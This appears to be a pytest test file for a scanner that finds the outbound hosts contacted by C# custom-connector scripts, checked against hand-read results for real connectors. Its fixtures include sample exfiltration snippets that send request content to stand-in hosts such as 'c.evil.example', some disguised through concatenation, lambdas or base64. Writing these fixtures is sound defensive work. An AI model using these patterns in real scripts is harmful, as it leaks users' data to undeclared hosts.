"""script.csx: parsing with tree-sitter, egress hosts, robustness; the 26 real corpus scripts."""

from __future__ import annotations

import random
from pathlib import Path

import pytest

from tests.conftest import ROOT, shared_dir
from vetter.model.csx import Script, operation_cases, parse_script, script_hosts
from vetter.model.package import package_from_files

SCRIPTS = ROOT / "fixtures" / "scripts"


def _hosts(source: bytes) -> list[tuple[int, str, str | None]]:
    package = package_from_files("p", {"script.csx": source})
    return [(h.line, h.kind, h.host) for h in script_hosts(package)]


def test_every_way_a_request_leaves_the_synthetic_script():
    assert _hosts((SCRIPTS / "egress.csx").read_bytes()) == [
        (7, "literal", "login.contoso-auth.com"),  # const used by new HttpRequestMessage
        (8, "literal", "reports.contoso.net"),  # expression-bodied property + concatenation
        (17, "literal", "init.contoso.org"),  # RequestUri in an object initializer
        (18, "literal", "builder.contoso.io"),  # new UriBuilder(scheme, host)
        (22, "computed", None),  # interpolated host from a header
        (25, "computed", None),  # a URL read from the request body
        (33, "rewrite", "mirror.contoso.com"),  # RequestUri.ToString().Replace(host, other)
        (34, "rewrite", "acct.blob.core.windows.net"),  # string.Format with literal arguments
        (36, "rewrite", "eu.contoso.com"),  # builder.Host = "..."
        (41, "literal", "legacy.contoso.com"),  # WebClient.DownloadString
    ]


def test_the_platform_request_forwarded_unchanged_has_no_egress():
    assert _hosts((SCRIPTS / "forwarding.csx").read_bytes()) == []


def test_null_operators_and_self_feeding_helpers_keep_the_request_s_host():
    # as Tribal - SITS (certified): Context!.Request and Context?.Request, a URL cut at its query with
    # Split('?')[0], and `url = Helper(url)` chains whose helpers return their own `url` parameter
    source = b"""public class Script : ScriptBase {
    private static readonly string Prefix = "api/";
    public override async Task<HttpResponseMessage> ExecuteAsync() {
        var request = Context!.Request;
        var url = $"{request.RequestUri}{Prefix}";
        url = AddQuery(url);
        request.RequestUri = new Uri(url);
        return await Context.SendAsync(request, CancellationToken);
    }
    private async Task<HttpResponseMessage> Other() {
        var request = Context?.Request;
        var uri = request.RequestUri;
        var url = Build(uri);
        url = AddQuery(url);
        url = Tidy(url);
        request.RequestUri = new Uri(url);
        return await Context.SendAsync(request, CancellationToken);
    }
    private static string Build(Uri uri) => uri.ToString().Replace("x", Prefix).Split('?')[0];
    private static string AddQuery(string url) { url += "?a=1"; return url; }
    private static string Tidy(string url) { if (url.EndsWith("&")) { url = url.TrimEnd('&'); } return url; }
}"""
    assert _hosts(source) == []


def test_a_value_that_only_feeds_on_itself_is_still_computed():
    # a field built from itself and a header has no other value: the request's host is not known
    source = b"""public class Script : ScriptBase {
    private string target;
    public override async Task<HttpResponseMessage> ExecuteAsync() {
        target = target + this.Context.Request.Headers.GetValues("X-Host").First();
        return await Context.SendAsync(new HttpRequestMessage(HttpMethod.Get, target), CancellationToken);
    }
}"""
    assert _hosts(source) == [(5, "computed", None)]
    # a literal extended by itself keeps its literal host
    literal = b"""public class Script : ScriptBase {
    public override async Task<HttpResponseMessage> ExecuteAsync() {
        var url = "https://api.contoso.com";
        url = url + "/v1";
        return await Context.SendAsync(new HttpRequestMessage(HttpMethod.Get, url), CancellationToken);
    }
}"""
    assert _hosts(literal) == [(3, "literal", "api.contoso.com")]


def test_a_link_in_a_string_or_a_comment_is_not_egress():
    source = b"""public class Script : ScriptBase {
    // new Uri("https://comment.example.com")
    public override async Task<HttpResponseMessage> ExecuteAsync() {
        var html = "<a href='https://link.example.com'>x</a>";
        var response = new HttpResponseMessage(HttpStatusCode.OK);
        response.Headers.Location = new Uri("https://location.example.com/x");
        return response;
    }
}"""
    assert _hosts(source) == []


def test_syntax_errors_are_reported_at_their_lines():
    script = Script("script.csx", b"public class Script : ScriptBase\n{\n    void A() { int x = 1 }\n}\n")
    assert [e.line for e in script.errors] == [3]
    source = b"public class Script : ScriptBase\n{\n    void A()\n    {\n        var r = this.Context.Request\n        return;\n    }\n}\n"
    # a missing ';' is noticed where the next statement starts
    assert [e.line for e in Script("script.csx", source).errors] == [6]
    # an unclosed class: reported where the file ends, not on the class's first line
    unclosed = Script("script.csx", source[: source.rindex(b"}")]).errors
    assert (unclosed[-1].line, unclosed[-1].missing) == (7, "}") and all(e.line > 1 for e in unclosed)


def test_a_utf8_bom_and_non_ascii_text_keep_lines_and_columns():
    source = '\ufeffpublic class Script : ScriptBase {\n  // café\n  private const string U = "https://é.example.com/";\n  void A() { var r = new HttpRequestMessage(HttpMethod.Get, "https://api.example.com/ü"); }\n}\n'
    hosts = script_hosts(package_from_files("p", {"script.csx": source.encode("utf-8")}))
    assert [(h.line, h.column, h.host) for h in hosts] == [(4, 61, "api.example.com")]


def test_operation_cases_read_ifs_switches_helpers_and_case_folding():
    source = b"""public class Script : ScriptBase {
    public override async Task<HttpResponseMessage> ExecuteAsync() {
        var op = this.Context.OperationId.ToLower();
        if (op == "listwidgets") { }
        switch (Context.OperationId) { case "GetWidget": break; }
        var kind = Context.OperationId switch { "A" => 1, _ => 0 };
        if (this.Context.OperationId.StartsWith("Search")) { }
        if (IsOp("Delete")) { }
        return null;
    }
    bool IsOp(string x) => this.Context.OperationId == x;
    private readonly Dictionary<string, string> map = new Dictionary<string, string> { { "Keyed", "a" }, ["Indexed"] = "b" };
    void B() { var id = Context.OperationId; if (map.TryGetValue(id, out var v)) { } }
}"""
    cases = operation_cases(Script("s", source))
    assert [(c.value, c.mode) for c in cases] == [
        ("listwidgets", "nocase"), ("GetWidget", "exact"), ("A", "exact"), ("Search", "prefix"), ("Delete", "exact"),
        ("Keyed", "exact"), ("Indexed", "exact"),
    ]


@pytest.mark.parametrize("seed", range(12))
def test_random_bytes_and_truncated_scripts_never_crash(seed):
    rng = random.Random(seed)
    base = (SCRIPTS / "egress.csx").read_bytes()
    cut = base[: rng.randrange(len(base))]
    noise = bytes(rng.randrange(256) for _ in range(rng.randrange(1, 400)))
    for source in (cut, noise, cut + noise, b"{" * 5000, b"new Uri(" * 2000):
        package = package_from_files("p", {"script.csx": source, "apiDefinition.swagger.json": b'{"swagger": "2.0"}'})
        script = parse_script(package)
        assert script is not None
        script_hosts(package)
        operation_cases(script)
        lines = source.decode("utf-8", "replace").split("\n")
        for e in script.errors:  # every syntax error is inside the source
            assert 1 <= e.line <= len(lines) and 1 <= e.column <= len(lines[e.line - 1]) + 1, (e, len(lines))


# -- the real scripts ----------------------------------------------------------------------
# Hosts found by reading each script (docs/secrets-survey.md): script -> [(line, kind, host)].
# The other 21 scripts only forward (and perhaps edit) the platform's own request.
READ_BY_HAND = {
    "custom-connectors/Snowflake": [(17, "computed", None)],  # uriBuilder.Host = the Domain header
    "independent-publisher-connectors/AmazonS3Bucket": [(64, "computed", None)],  # https://{bucket}.s3...amazonaws.com
    "independent-publisher-connectors/Nationalize.io": [(54, "rewrite", "api.nationalize.io")],
    "independent-publisher-connectors/Open Data Network": [
        (82, "computed", None), (255, "computed", None), (317, "computed", None), (369, "computed", None),
    ],  # Host = the domain header, in four handlers
    "independent-publisher-connectors/VIES": [(24, "literal", "ec.europa.eu")],  # WebClient.UploadString
    # certified group (read by hand on 2026-12-05)
    "certified-connectors/Blackbaud SKY Add-ins": [(38, "rewrite", "api.sky.blackbaud.com")],  # new UriBuilder(...) then RequestUri
    "certified-connectors/CB Blockchain Seal": [
        (42, "literal", "digitalportoftrust.connecting-software.com"),
        (64, "literal", "digitalportoftrust.connecting-software.com"),
        (84, "literal", "digitalportoftrust.connecting-software.com"),
    ],  # interpolated URLs with a fixed host
    "certified-connectors/CardsForPowerApps": [(61, "computed", None), (228, "computed", None)],  # GetRequestUri(envId, region), botUri
    "certified-connectors/DocuSign": [
        (838, "computed", None), (1493, "literal", "account-d.docusign.com"), (1495, "literal", "account-s.docusign.com"),
        (1497, "literal", "account.docusign.mil"), (1498, "literal", "account.docusign.com"), (1780, "computed", None),
    ],  # logicAppsUri; the account host chosen by environment; baseUri from the user info
    "certified-connectors/GISCloud": [(630, "literal", "api.giscloud.com")],
    "certified-connectors/MoreApp Forms": [(9, "literal", "api.moreapp.com"), (53, "literal", "api.moreapp.com")],
    "certified-connectors/Mural": [(114, "computed", None)],  # RequestUri = uri built from the request
    "certified-connectors/OpenLegacy IBM I (AS400)": [(39, "computed", None)],  # $"{host}/backend/..."
    "certified-connectors/Telstra SMS": [(41, "literal", "products.api.telstra.com")],  # token request
    "certified-connectors/TranslatorV3": [(465, "rewrite", "api.cognitive.microsofttranslator.com")],  # const LANGUAGES_URI, used as RequestUri
    # Tribal - SITS: new Uri(url) at 71 and 166 keeps the request's host (url starts with Context!.Request's
    # RequestUri, or is BuildUrl's uri.ToString().Replace(...).Split('?')[0]): no egress of its own
    "certified-connectors/snowflake": [(68, "computed", None)],  # uriBuilder.Uri
}


def _corpus_scripts() -> list[Path]:
    corpus = shared_dir("corpus")
    found = sorted(p for p in corpus.glob("*/*/*") if p.name.lower() in ("script.csx", "script.cs"))
    assert len(found) >= 26
    return found


def test_every_corpus_script_parses():
    for path in _corpus_scripts():
        script = Script(path.name, path.read_bytes())
        assert script.errors == [], (path, script.errors[:3])


def test_corpus_script_egress_matches_the_hand_reading():
    from vetter.model.loader import PackageSource

    corpus = shared_dir("corpus")
    for path in _corpus_scripts():
        key = path.parent.relative_to(corpus).as_posix()
        package = PackageSource(path.parent, "folder").load()
        got = [(h.line, h.kind, h.host) for h in script_hosts(package)]
        assert got == READ_BY_HAND.get(key, []), key


def _in_execute(body: str, members: str = "") -> bytes:
    """A script whose ExecuteAsync runs ``body`` (from line 4) and forwards the platform's request."""
    return ("public class Script : ScriptBase {\n" + members + "\n"
            "    public override async Task<HttpResponseMessage> ExecuteAsync() {\n" + body + "\n"
            "        return await Context.SendAsync(Context.Request, CancellationToken);\n    }\n}\n").encode()


# Ways a hostile or careless script sends data to an undeclared host that the walk once passed in
# silence (no host) or reported only as computed, though every part of the host is written in it.
HIDDEN = {
    "a scheme constant in string.Format": (
        _in_execute('var u = string.Format("{0}://{1}/c?d={2}", Scheme, "a.evil.example", Uri.EscapeDataString(d));\n'
                    "await Context.SendAsync(new HttpRequestMessage(HttpMethod.Get, u), CancellationToken);",
                    'private const string Scheme = "https";'), [(4, "literal", "a.evil.example")]),
    "an absolute URL as the relative part of new Uri(base, relative)": (
        _in_execute('Context.Request.RequestUri = new Uri(new Uri(Context.Request.RequestUri.ToString()), "https://b.evil.example/c");'),
        [(4, "rewrite", "b.evil.example")]),
    "HttpClient.BaseAddress with a relative PostAsync": (
        _in_execute('using (var c = new HttpClient { BaseAddress = new Uri("https://c.evil.example/") }) { await c.PostAsync("c", Context.Request.Content); }'),
        [(4, "literal", "c.evil.example")]),
    "WebRequest.CreateHttp": (
        _in_execute('var r = WebRequest.CreateHttp("https://d.evil.example/c");'), [(4, "literal", "d.evil.example")]),
    "a target-typed new HttpRequestMessage": (
        _in_execute('HttpRequestMessage m = new(HttpMethod.Post, "https://e.evil.example/c");'), [(4, "literal", "e.evil.example")]),
    "a static readonly host between literals": (
        _in_execute('var m = new HttpRequestMessage(HttpMethod.Post, "https://" + SinkHost + "/c");',
                    'private static readonly string SinkHost = "f.evil.example";'), [(4, "literal", "f.evil.example")]),
    "string.Concat of literals": (
        _in_execute('var m = new HttpRequestMessage(HttpMethod.Post, string.Concat("https://", "g.evil.example", "/c"));'),
        [(4, "literal", "g.evil.example")]),
    "a verbatim interpolation of a const host": (
        _in_execute('var m = new HttpRequestMessage(HttpMethod.Post, $@"https://{Host}/c/{Context.OperationId}");',
                    'private const string Host = "h.evil.example";'), [(4, "literal", "h.evil.example")]),
    "a literal host before the request's path": (
        _in_execute('Context.Request.RequestUri = new Uri("https://i.evil.example" + Context.Request.RequestUri.PathAndQuery);'),
        [(4, "rewrite", "i.evil.example")]),
    "a local function": (
        _in_execute('string Target(string p) => "https://j.evil.example/" + p;\n'
                    'var m = new HttpRequestMessage(HttpMethod.Post, Target("c"));'), [(4, "literal", "j.evil.example")]),
    "a lambda held by a name": (
        _in_execute('Func<string, Uri> target = p => new Uri("https://k.evil.example/" + p);\n'
                    'var m = new HttpRequestMessage(HttpMethod.Post, target("c"));'), [(4, "literal", "k.evil.example")]),
    "a switch expression": (
        _in_execute('var u = Context.OperationId switch { "A" => "https://l.evil.example/a", _ => Context.Request.RequestUri.ToString() };\n'
                    "Context.Request.RequestUri = new Uri(u);"), [(4, "rewrite", "l.evil.example")]),
}


@pytest.mark.parametrize("name", sorted(HIDDEN))
def test_a_host_hidden_in_the_script_is_found(name):
    source, expected = HIDDEN[name]
    assert _hosts(source) == expected


def test_obfuscated_hosts_are_computed_and_relative_parts_keep_the_base():
    # hosts that only exist at run time are reported as computed at the request, never as none
    for body in (
        'string u = string.Empty; u += "https://m.evil.example"; var m = new HttpRequestMessage(HttpMethod.Post, u);',
        'if (Uri.TryCreate("https://n.evil.example/c", UriKind.Absolute, out var t)) { var m = new HttpRequestMessage(HttpMethod.Post, t); }',
        'var m = new HttpRequestMessage(HttpMethod.Post, Encoding.UTF8.GetString(Convert.FromBase64String("aHR0cHM6Ly9vLmV2aWwuZXhhbXBsZQ==")));',
        "var m = new HttpRequestMessage(HttpMethod.Post, new string(new[] { 'h', 't', 't', 'p', 's' }));",
    ):
        assert _hosts(_in_execute(body)) == [(4, "computed", None)], body
    # a relative part (a path, the request's own path, a bool) keeps the base's host
    for body in (
        'Context.Request.RequestUri = new Uri(Context.Request.RequestUri, "v2/widgets");',
        "Context.Request.RequestUri = new Uri(new Uri(Context.Request.RequestUri.ToString()), Context.Request.RequestUri.PathAndQuery);",
        "Context.Request.RequestUri = new Uri(Uri.UnescapeDataString(Context.Request.RequestUri.OriginalString), true);",
    ):
        assert _hosts(_in_execute(body)) == [], body


def test_a_relative_part_computed_at_run_time_makes_the_host_computed():
    # new Uri(base, relative) with a relative part read at run time (a header's URL): an absolute
    # one replaces the base's host, so the host is computed; the base's own host is still named
    assert _hosts(_in_execute(
        'Context.Request.RequestUri = new Uri(Context.Request.RequestUri, Context.Request.Headers.GetValues("X-Next").First());'
    )) == [(4, "computed", None)]
    assert _hosts(_in_execute(
        'var next = Context.Request.Headers.GetValues("X-Next").First();\n'
        'Context.Request.RequestUri = new Uri(new Uri("https://api.example.com/"), next);'
    )) == [(5, "computed", None), (5, "rewrite", "api.example.com")]
    # a relative part that starts with a path stays relative
    assert _hosts(_in_execute(
        'Context.Request.RequestUri = new Uri(new Uri("https://api.example.com/"), "v1/" + Context.OperationId);'
    )) == [(4, "rewrite", "api.example.com")]
